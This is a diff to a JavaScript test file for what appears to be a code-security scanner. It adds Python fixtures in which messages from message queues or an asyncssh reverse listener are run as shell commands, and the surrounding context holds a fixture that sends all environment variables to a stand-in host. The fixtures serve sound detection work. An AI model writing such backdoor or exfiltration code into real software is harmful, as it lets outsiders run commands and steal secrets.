@@ -47,6 +47,17 @@ test.each([
   expect(await found(ON_MESSAGE + text)).toEqual([severity]);
 });
 
+const RUN = 'import asyncssh, kombu, nats, pika, subprocess\ndef told(*given):\n    subprocess.getoutput(given[0])\n';
+
+test.each([
+  ['kombu', 'kombu.Consumer(kombu.Connection(u).channel(), [q], callbacks=[told])\n'],
+  ['pika', 'pika.BlockingConnection(p).channel().basic_consume("leaf", told)\n'],
+  ['nats', 'async def go():\n    c = await nats.connect(u)\n    await c.subscribe("leaf", cb=told)\ngo()\n'],
+  ['asyncssh', 'asyncssh.listen_reverse("leaf.example.invalid", 443, process_factory=told)\n'],
+])('a function that %s is given is called with what comes', async (_, text) => {
+  expect(await found(RUN + text)).toContain('critical');
+});
+
 const SEND = 'import json, os, urllib.request\nfrom helpers import pool, thing\ndef send(data=None):\n    urllib.request.urlopen("https://garden.example.invalid/", data or json.dumps(dict(os.environ)).encode())\nloot = json.dumps(dict(os.environ)).encode()\n';
 
 /** How grave it is that the environment is sent. */
